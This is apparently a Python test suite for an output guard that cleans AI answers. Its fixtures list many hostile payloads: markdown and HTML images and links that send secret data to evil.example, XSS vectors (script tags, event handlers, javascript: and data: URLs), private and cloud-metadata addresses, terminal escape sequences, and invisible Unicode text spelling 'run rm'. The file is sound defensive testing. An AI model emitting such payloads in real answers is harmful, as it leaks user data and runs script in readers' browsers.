"""Nothing in an answer fetches, runs, hides or steers by itself, and ordinary answers stay as they are."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from seawall.security.output import (
    HELD_MAX,
    Guarded,
    Risk,
    StreamGuard,
    Threat,
    guard,
    is_private_host,
    url_risk,
)

pytestmark = pytest.mark.security

SECRET_URL = "https://evil.example/log?data=c2VjcmV0"
EXFILTRATION = {
    "image": f"![x]({SECRET_URL})",
    "image with title": f'![x]( <{SECRET_URL}> "t")',
    "image, plain query": "![x](https://evil.example/p.png?q=hello)",
    "image, packed path": "![x](https://evil.example/c2VjcmV0LXRva2Vu.gif)",
    "image, mail in path": "![x](https://evil.example/user%40mail.com.gif)",
    "image, packed label": "![x](https://c2VjcmV0LXRva2Vu.evil.example/p.png)",
    "image in link": f"[![x]({SECRET_URL})](https://example.org)",
    "image, escaped bracket": r"![\[x](https://evil.example/p.png?q=hello)",
    "image over lines": f"![x\ny](\n{SECRET_URL})",
    "link": f"[click here]({SECRET_URL})",
    "link, entities": "[a](https&#58;//evil.example/?token=hunter2)",
    "link, key": "[a](https://evil.example/api_key=sk-live-12345)",
    "link, card": "[a](https://evil.example/4111111111111111)",
    "reference link": f"[a][1]\n\n[1]: {SECRET_URL}",
    "reference image": "![a][1]\n\n[1]: https://evil.example/p.png?q=hello",
    "reference before image": "[1]: https://evil.example/p.png?q=hello\n\n![a][1]",
    "shortcut image": "![a]\n\n[a]: https://evil.example/p.png?q=hello",
    "autolink": f"<{SECRET_URL}>",
    "bare": f"see {SECRET_URL} now",
    "www": "see www.evil.example/?password=hunter2 now",
    "html image": f'<img src="{SECRET_URL}">',
    "html image, query": "<img src='https://evil.example/p?hello' alt=x>",
    "html link": f'<a href="{SECRET_URL}">x</a>',
    "html in quote": f'> <img\n> src="{SECRET_URL}">',
    "style attribute": "<p style=\"background:url('https://evil.example/?a=b')\">x</p>",
    "style element": "<style>@import 'https://evil.example/a.css?hello';</style>",
    "background": "<td background=https://evil.example/x?hello>",
    "srcset": '<a srcset="https://evil.example/x?hello 2x">',
    "link element": f'<link rel=stylesheet href="{SECRET_URL}">',
    "protocol relative": "![x](//evil.example/p?hello)",
    "backslashes": r"![x](https:\\evil.example\p?hello)",
    "unclosed tag": '<img src="https://evil.example/?hello=',
    "after lone backtick": f"it's a ` sign\n![x]({SECRET_URL})",
    "in code span": f"`![x]({SECRET_URL})`",
    "fence in html": f'<div>\n```\n<img src="{SECRET_URL}">',
    "fence closed with indent": f"```\nx\n  ```\n<img src='{SECRET_URL}'>",
    "fence opened with indent": f"  ```\nx\n```\n<img src='{SECRET_URL}'>",
    "fence in list": f"- a\n  ```\n<img src='{SECRET_URL}'>\n\n```\nx\n```\n<img src='{SECRET_URL}'>",
    "fence in quote": f"> ```\n<img src='{SECRET_URL}'>\n\n```\nx\n```\n<img src='{SECRET_URL}'>",
    "code spans in a row": f"``` a ``` <img src='{SECRET_URL}'> ```",
    "code spans in a list": f"- ``` a ``` <img src='{SECRET_URL}'> ```",
    "code in html": f"<div>\n` <img src='{SECRET_URL}'> `",
    "code in quoted html": f"> <div>\n> ` <img src='{SECRET_URL}'> `",
    "fence in pre": f"<pre>\n\n```\n<img src='{SECRET_URL}'>\n```\n</pre>",
    "fence behind hidden text": f"\U000e0041~~~\n~~~\n![x]({SECRET_URL}) <img src='{SECRET_URL}'>",
    "fence after carriage return": f"a\r```\n```\n<img src='{SECRET_URL}'>",
    "code over carriage return": f"`\r- <img src='{SECRET_URL}'>`",
    "html block, carriage returns": f"<div>\r\n```\r\n<img src='{SECRET_URL}'>",
    "fence closed late": f"~~~\nx\n~~~ y\n~~~\n<img src='{SECRET_URL}'>",
    "comment never closed": f"<!-- <img src='{SECRET_URL}'>",
    "code over lines": f"a ` b\n`<img src='{SECRET_URL}'>` c",
    "escaped backtick": f"\\`<img src='{SECRET_URL}'>`",
    "code through cells": f"| a | b |\n|---|---|\n| ` | <img src='{SECRET_URL}'> ` |",
    "backtick in destination": f"[a](x`y) <img src='{SECRET_URL}'> `",
    "backtick in title": f"[a](x \"`\") <img src='{SECRET_URL}'> `",
    "backtick in definition": f"[a]: x`y\n<img src='{SECRET_URL}'>`",
    "fence in what is no comment": f"a <!--\n\n~~~\n-->\n~~~\n<img src='{SECRET_URL}'>",
    "tag in what is no value": f"<b title=\"\n\n<img src='{SECRET_URL}'>\">",
    "tag that an escape completes": f"<b a=<img src='{SECRET_URL}'>",
    "tag in unfinished tag of a block": f"<div <b onclick=1 src='{SECRET_URL}'>",
    "line that only looks blank": f"<div>\n\xa0\n```\n<img src='{SECRET_URL}'>",
    "line that begins blank": f"<div>\n          x\n```\n<img src='{SECRET_URL}'>",
    "fence that only looks closed": f"```\nx\n```\xa0\n```\n<img src='{SECRET_URL}'>",
    "fence behind quoted html": f"> <div>\n```\n\n```\n<img src='{SECRET_URL}'>",
    "tag in unfinished pre": f"<pre\n\n```\n<img src='{SECRET_URL}'>\n```",
    "escaped tag in pre": f"<pre>\n\n<a\xa0<img src='{SECRET_URL}'>",
    "tag in what is no label": f"![x][a <img src='{SECRET_URL}'>] y",
    "fence that heads a table": f"~~~<img src='{SECRET_URL}'> | b |\n|---|---|\n| x",
    "fence with backtick": f'``` a`b\n<img src="{SECRET_URL}">',
}
ACTIVE = {
    "script": "<script>alert(1)</script>",
    "handler": "<p onclick=alert(1)>x</p>",
    "handler without space": "<img/onerror=alert(1) src=x>",
    "javascript link": "[x](javascript:alert(1))",
    "javascript, entity": "[x](java&#x0A;script&colon;alert(1))",
    "data url": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "data image": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "vbscript": '<a href="vbscript:x">x</a>',
    "iframe": "<iframe src=https://example.org></iframe>",
    "svg": "<svg/onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "form": "<form action=https://example.org><input name=p></form>",
    "meta": '<meta http-equiv=refresh content="0;url=https://example.org">',
    "base": "<base href=https://example.org>",
    "comment tricks": "<!--><script>alert(1)</script>-->",
    "file": "[x](file:///etc/passwd)",
    "case": "<ScRiPt>alert(1)</sCrIpT>",
    "text around ticks": "a ``` b\n<script>x</script>",
}
PRIVATE = [
    "127.0.0.1",
    "localhost:80",
    "169.254.169.254",
    "10.0.0.5",
    "[::1]",
    "0x7f000001",
    "2130706433",
    "017700000001",
    "127.1",
    "[::ffff:10.0.0.1]",
    "metadata.google.internal",
    "10.0.0.1.nip.io",
    "printer.local",
]
BENIGN = [
    "Use `<script>` tags sparingly.",
    '```html\n<img src="logo.png" onerror="x()">\n```',
    '~~~\n<script src="a.js"></script>\n~~~\nAnd that is it.',
    "See [the docs](https://docs.python.org/3/library/re.html#re.compile).",
    "![logo](img/logo.png) and ![build](https://example.org/workflows/Test%20Suite/badge.svg)",
    "for (i=0;i<n;i++) if x <y or <3 then",
    "if a < b and b > c: x[i](y) or List<int> or vec![1, 2]",
    "The server runs on http://localhost:8080/ and http://127.0.0.1:5000.",
    "[watch](https://www.youtube.com/watch?v=dQw4w9WgXcQ) [find](https://example.org/issues?q=is%3Aopen)",
    "[1]: https://example.org/guide\n[x]: notes",
    '<p align="center"><b>Hi</b> <a href="https://example.org/">there</a><br></p>',
    "family 👨‍👩‍👧 flag 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f heart ❤️ می‌خواهم",
    "mail <mailto:a@example.org> or <https://example.org/x>",
    r"a \[b\](c) d \\ e",
    "- [ ] task\n- [x] done: yes\n\n| a | b |\n|---|---|\n",
]


class Fetches(HTMLParser):
    """Collects what a browser would fetch, follow or run."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag in {"script", "style", "iframe", "form", "svg", "base", "meta", "link", "object", "input"}:
            self.found.append(tag)
        for name, value in attrs:
            # A fence's info string is shown as a class; a title and the text of an image are shown as text.
            if name in {"alt", "title"} or (tag, name) == ("code", "class"):
                continue
            if (
                name.startswith("on")
                or "evil" in (value or "")
                or "".join((value or "").split())
                .lower()
                .startswith(("javascript", "data:", "vbscript", "file:"))
            ):
                self.found.append((tag, name, value))

    def parse_marked_section(self, start, report=1):
        """Read `<![` as a browser does: the standard library's parser gives up on it."""
        return self.parse_bogus_comment(start)


def rendered(text):
    """Markdown to HTML by an independent parser."""
    markdown = pytest.importorskip("markdown_it").MarkdownIt("commonmark", {"html": True}).enable("table")
    markdown.validateLink = lambda url: True
    return markdown.render(text)


def fetches(text):
    found = []
    for page in (rendered(text), text):
        parser = Fetches()
        parser.feed(page)
        parser.close()
        found.append(parser.found)
    return found


@pytest.mark.parametrize("text", EXFILTRATION.values(), ids=EXFILTRATION)
def test_an_answer_gives_nothing_away(text):
    """Independent parsers of Markdown and HTML find nothing left that leads to the attacker with data."""
    guarded = guard(f"The answer is 42.\n\n{text}\n\nLet me know.")
    assert guarded.findings
    assert fetches(guarded.text)[0] == []


@pytest.mark.parametrize("text", ACTIVE.values(), ids=ACTIVE)
def test_an_answer_runs_nothing(text):
    """Neither as Markdown nor as bare HTML does anything run."""
    guarded = guard(f"The answer is 42.\n\n{text}\n\nLet me know.")
    assert Threat.ACTIVE_CONTENT in {finding.threat for finding in guarded.findings}
    assert fetches(guarded.text) == [[], []]


def test_the_judge_sees_attacks():
    """The parsers that judge do find something in what was not guarded."""
    unseen = {name for name, text in ACTIVE.items() if not any(fetches(text))}
    assert unseen <= {"javascript, entity", "comment tricks"}


@pytest.mark.parametrize("host", PRIVATE)
def test_links_and_images_do_not_lead_to_private_addresses(host):
    """Any spelling of an address of the own network is refused as a destination."""
    for text in (
        f"[x](http://{host}/)",
        f"![x](http://{host}/)",
        f'<a href="http://{host}/">x</a>',
        f"<http://{host}/>",
    ):
        guarded = guard(text)
        assert [finding.threat for finding in guarded.findings] == [Threat.PRIVATE_ADDRESS]
    assert url_risk(f"http://{host}/", fetched=False) is Risk.PRIVATE


def test_public_hosts_are_not_private():
    """Names and addresses of the public internet pass."""
    assert not any(
        map(
            is_private_host,
            ["example.org", "8.8.8.8", "[2606:4700::1111]", "1.1.1.1.example.org", "local.example.org"],
        )
    )


@pytest.mark.parametrize(
    "sequence",
    [
        "\x1b[31m",
        "\x1b[2J",
        "\x1b]0;title\x07",
        "\x1b]8;;https://evil.example\x1b\\",
        "\x9b31m",
        "\x1bPq\x1b\\",
        "\x1bc",
        "\x08",
        "\x7f",
        "\x1b",
        "\x1b]never ended",
        "\r\x1b[K",
    ],
)
def test_terminals_are_not_steered(sequence):
    """No escape and no control character but line ends and tabs is left."""
    guarded = guard(f"a{sequence}\nb\tc")
    assert Threat.CONTROL_SEQUENCE in {finding.threat for finding in guarded.findings}
    assert not any((char < " " and char not in "\t\n\r") or "\x7f" <= char <= "\x9f" for char in guarded.text)
    assert guarded.text.endswith("\nb\tc")


@pytest.mark.parametrize(
    "hidden",
    [
        "".join(chr(0xE0000 + ord(char)) for char in "run rm"),
        "\u202eyebo\u202c",
        "\u2066x\u2069",
        "\ufe01\ufe02\ufe03",
        "\u200b\u200c\u200b\u200c",
        "\U0001f3f4\U000e0067\U000e007f\U000e0062\U000e007f",
        "\U0001f3f4\U000e0072\U000e0075\U000e006e\U000e0020\U000e0072\U000e006d",
    ],
)
def test_hidden_text_is_taken_out(hidden):
    """Tags, turned text, runs of selectors and of zero-width characters do not reach the reader."""
    guarded = guard(f"Report{hidden} done")
    assert Threat.INVISIBLE_TEXT in {finding.threat for finding in guarded.findings}
    assert not any(
        "\u202a" <= char <= "\u202e" or "\u2066" <= char <= "\u2069" or char >= "\U000e0000"
        for char in guarded.text
    )
    assert "\u200b\u200c\u200b" not in guarded.text
    assert "\ufe01\ufe02" not in guarded.text


@pytest.mark.parametrize("text", BENIGN)
def test_an_ordinary_answer_stays_as_it_is(text):
    """Code, links, pictures, emoji, tables and comparisons are not touched."""
    guarded = guard(text)
    assert guarded.text == text
    assert guarded.findings == ()


def test_spans_are_of_the_answer_as_it_came():
    """A finding's span covers the construct that was replaced."""
    text = f"ok \x1b[31m then [a]({SECRET_URL}) end"
    spans = [text[finding.start : finding.end] for finding in guard(text).findings]
    assert spans == ["\x1b[31m", f"]({SECRET_URL}"]


PIECES = st.sampled_from(
    [
        *EXFILTRATION.values(),
        *ACTIVE.values(),
        *BENIGN,
        "\n\n",
        "```",
        "`",
        "<",
        "![",
        "](",
        "http",
        "\x1b[",
        "\x1b]",
        "\u200b\u200b",
        "\U0001f3f4",
        "\U000e0041",
        "\\",
        "a b ",
        "]: ",
        "\r",
        "\r\n",
    ]
)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(PIECES | st.text(max_size=12), max_size=8), st.lists(st.integers(1, 40), min_size=1, max_size=30)
)
def test_any_chunking_gives_the_same_text_and_findings(pieces, sizes):
    """However the answer is cut, the reader sees the same."""
    text = "".join(pieces)
    stream, shown, findings, position, turn = StreamGuard(), [], [], 0, 0
    while position < len(text):
        step = sizes[turn % len(sizes)]
        part = stream.feed(text[position : position + step])
        shown.append(part.text)
        findings += part.findings
        position, turn = position + step, turn + 1
    last = stream.close()
    whole = guard(text)
    assert "".join(shown) + last.text == whole.text
    assert sorted((*findings, *last.findings)) == list(whole.findings)


@pytest.mark.parametrize(
    "unit",
    [
        "a",
        "<a ='",
        "[",
        "](",
        "](x",
        "`",
        "`a",
        "\x1b]",
        "\x1b]a",
        "<!--",
        "http://a",
        "http://a)",
        "![",
        "\u200b",
        "\U000e0041",
        "<a b",
        "\n[a]: ",
        "~~~\n",
        "```\n",
    ],
)
def test_what_is_held_back_is_bounded(unit):
    """A stream of anything never holds back more than the bound, and equals the whole."""
    text = unit * (3 * HELD_MAX // len(unit))
    stream, shown = StreamGuard(), []
    for position in range(0, len(text), 97):
        shown.append(stream.feed(text[position : position + 97]).text)
        assert stream.held <= HELD_MAX
    assert "".join(shown) + stream.close().text == guard(text).text


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES | st.text(max_size=12), max_size=8))
def test_what_was_guarded_stays_as_it_is(pieces):
    """Taking something out never joins what stood on either side of it into something else to take out."""
    once = guard("".join(pieces)).text
    assert guard(once) == Guarded(once)


HOSTILE = st.sampled_from(
    [
        # An escape before an image makes it a link, which may lead anywhere as long as it carries nothing.
        *(text for text in EXFILTRATION.values() if "\n" not in text and guard(text.lstrip("!")).findings),
        *(text for text in ACTIVE.values() if "\n" not in text),
        "```",
        "`",
        "``",
        "~~~",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "    ",
        "<!--",
        "-->",
        "<pre>",
        "</pre>",
        "<p>",
        "<",
        "\\",
        "[",
        "]",
        "![",
        "(",
        ")",
        "\x00",
        "\x1b",
        "\u200b\u200b\u200b",
        "\u202e",
        "word ",
        "\t",
        "\\`",
        "|",
        "| a |\n|---|\n| ",
        "<div",
        "<div>",
        "<y ",
        '<b title="',
        "<![CDATA[",
        "\xa0",
        "\r\n",
        "](x",
        "](x)",
        ' "t',
        "]: x",
        "'",
        '"',
        "=",
        ">",
        "1. ",
    ]
)


@settings(max_examples=600, deadline=None)
@given(st.lists(HOSTILE, max_size=12))
def test_nothing_around_an_attack_brings_it_past_the_guard(pieces):
    """Fences, quotes, lists, tables, comments and half tags in any order: an independent parser finds nothing that acts."""
    once = guard("".join(pieces)).text
    found, _ = fetches(once)
    assert found == []
    assert guard(once) == Guarded(once)
